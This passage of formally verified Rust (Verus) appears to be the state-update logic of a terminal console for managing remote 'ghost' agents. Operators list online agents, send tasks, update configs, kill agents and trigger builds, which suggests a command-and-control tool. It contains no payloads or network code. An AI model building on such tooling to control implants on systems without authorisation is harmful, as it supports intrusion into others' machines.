        opt_cmd_view(cmd) == confirm_kill_step(old(app)@).1,
{
    match app.dashboard.selected_ghost_id() {
        Some(gid) => {
            app.show_action_menu = false;
            app.status_message = join3("Killing ghost ", gid.as_str(), "...");
            Some(Command::KillGhost(gid))
        },
        None => None,
    }
}

fn apply_receive_ghosts(app: &mut AppState, result: Result<Vec<GhostAgent>, String>)
    ensures
        final(app)@ == receive_ghosts_step(old(app)@, ghosts_result_view(result)),
{
    match result {
        Ok(ghosts) => {
            app.dashboard.ghosts = ghosts;
            let count = crate::text::usize_to_dec(app.dashboard.ghosts.len());
            app.status_message = join3("Updated: ", count.as_str(), " ghosts online");
        },
        Err(e) => {
            app.status_message = join2("Error fetching ghosts: ", e.as_str());
        },
    }
}

fn apply_receive_tasks(app: &mut AppState, result: Result<Vec<Task>, String>)
    ensures
        final(app)@ == receive_tasks_step(old(app)@, tasks_result_view(result)),
{
    match result {
        Ok(tasks) => {
            let should_scroll = tasks.len() > app.terminal.tasks.len();
            app.terminal.tasks = tasks;
            if should_scroll {
                app.terminal.scroll_to_bottom();
            }
        },
        Err(e) => {
            app.status_message = join2("Error fetching tasks: ", e.as_str());
        },
    }
}

fn apply_receive_task_send(app: &mut AppState, result: Result<String, String>) -> (cmd: Option<
    Command,
>)
    ensures
        final(app)@ == receive_task_send_step(old(app)@, msg_result_view(result)).0,
        opt_cmd_view(cmd) == receive_task_send_step(old(app)@, msg_result_view(result)).1,
{
    match result {
        Ok(message) => {
            app.status_message = join2("Task send: ", message.as_str());
            match &app.terminal.active_ghost_id {
                Some(g) => Some(Command::FetchTasks(g.clone())),
                None => None,
            }
        },
        Err(e) => {
            app.status_message = join2("Error: ", e.as_str());
            None
        },
    }
}

fn apply_receive_config_update(app: &mut AppState, result: Result<String, String>)
    ensures
        final(app)@ == receive_config_update_step(old(app)@, msg_result_view(result)),
{
    match result {
        Ok(message) => {
            app.status_message = join2("Config updated: ", message.as_str());
        },
        Err(e) => {
            app.status_message = join2("Error: ", e.as_str());
        },
    }
}

fn apply_receive_kill(app: &mut AppState, result: Result<String, String>) -> (cmd: Option<
    Command,
>)
    ensures
        final(app)@ == receive_kill_step(old(app)@, msg_result_view(result)).0,
        opt_cmd_view(cmd) == receive_kill_step(old(app)@, msg_result_view(result)).1,
{
    match result {
        Ok(message) => {
            app.status_message = join2("Kill result: ", message.as_str());
            Some(Command::FetchGhosts)
        },
        Err(e) => {
            app.status_message = join2("Error: ", e.as_str());
            None
        },
    }
}

fn apply_receive_build(app: &mut AppState, result: Result<String, String>)
    ensures
        final(app)@ == receive_build_step(old(app)@, msg_result_view(result)),
{
    match result {
        Ok(message) => {
            app.builder.build_status_msg = "SUCCESS".to_owned();
            app.status_message = join2("Build success: ", message.as_str());
        },
        Err(e) => {
            app.builder.build_status_msg = "FAILED".to_owned();
            app.status_message = join2("Error: ", e.as_str());
        },
    }
}

/// Applies one event to the state and returns the side-effect request to
/// dispatch, if any. Pure and deterministic: the new state and the command
/// are exactly [`step`] and [`step_command`] of the old state and the
/// event's value.
#[verifier::rlimit(30)]
pub fn update(app: &mut AppState, action: Action) -> (cmd: Option<Command>)
    ensures
        final(app)@ == step(old(app)@, action@),
        opt_cmd_view(cmd) == step_command(old(app)@, action@),
{
    match action {
        Action::Quit => Some(Command::Quit),
        Action::Tick => None,
        Action::Resize(_, _) => None,
        Action::NextTab => {
            app.next_tab();
            None
        },
        Action::PrevTab => {
            app.prev_tab();
            None
        },
        Action::ToggleHelp => {
            app.show_help = !app.show_help;
            None
        },
        Action::Up => {
            handle_nav_up(app);
            None
        },
        Action::Down => {
            handle_nav_down(app);
            None
        },
        Action::Left => {
            app.prev_tab();
            None
        },
        Action::Right => {
            app.next_tab();
            None
        },
        Action::Enter => handle_enter(app),
        Action::Esc => {
            handle_esc(app);
            None
        },
        Action::Backspace => {
            handle_backspace(app);
            None
        },
        Action::Char(c) => handle_char_input(app, c),
        Action::OpenActionMenu => {
            apply_open_action_menu(app);
            None
        },
        Action::ConfirmKillGhost => apply_confirm_kill(app),
        Action::SubmitGhostConfig => handle_config_submit(app),
        Action::ToggleBuilderSwitch => {
            handle_builder_toggle(app);
            None
        },
        Action::StartBuild => handle_build_start(app),
        Action::ReceiveGhosts(result) => {
            apply_receive_ghosts(app, result);
            None
        },
        Action::ReceiveTasks(result) => {
            apply_receive_tasks(app, result);
            None
        },
        Action::ReceiveTaskSendResult(result) => apply_receive_task_send(app, result),
        Action::ReceiveConfigUpdateResult(result) => {
            apply_receive_config_update(app, result);
            None
        },
        Action::ReceiveKillResult(result) => apply_receive_kill(app, result),
        Action::ReceiveBuildResult(result) => {
            apply_receive_build(app, result);
            None
        },
        Action::AutoRefresh => Some(Command::FetchGhosts),
    }
}

/// Result-integration law: a successful roster fetch replaces the roster
/// wholesale and reports the new count; a failed one leaves the roster
/// untouched and surfaces the error.
pub proof fn lemma_receive_ghosts(s: AppStateV, res: Result<Seq<crate::models::GhostAgentV>, Seq<char>>)
    ensures
        res matches Ok(list) ==> step(s, ActionV::ReceiveGhosts(res)).dashboard.ghosts == list,
        res matches Ok(list) ==> step(s, ActionV::ReceiveGhosts(res)).status_message
            == "Updated: "@ + dec_seq(list.len()) + " ghosts online"@,
        res matches Err(e) ==> step(s, ActionV::ReceiveGhosts(res)).dashboard == s.dashboard,
        step_command(s, ActionV::ReceiveGhosts(res)) is None,
{
}

/// Result-integration law: a successful kill result always emits a roster
/// refresh.
pub proof fn lemma_kill_result_refreshes(s: AppStateV, m: Seq<char>)
    ensures
        step_command(s, ActionV::ReceiveKillResult(Ok(m))) == Some(CommandV::FetchGhosts),
{
}

/// End-to-end law: with no modal open, Enter on the dashboard over a
/// selected ghost switches to the terminal, records that ghost as active
/// and emits the fetch of its tasks.
pub proof fn lemma_enter_activates_ghost(s: AppStateV, gid: Seq<char>)
    requires
        !s.show_action_menu,
        s.current_screen == CurrentScreen::Dashboard,
        selected_id_spec(s.dashboard) == Some(gid),
    ensures
        step(s, ActionV::Enter).current_screen == CurrentScreen::Terminal,
        step(s, ActionV::Enter).terminal.active_ghost_id == Some(gid),
        step_command(s, ActionV::Enter) == Some(CommandV::FetchTasks(gid)),
{
}

} // verus!
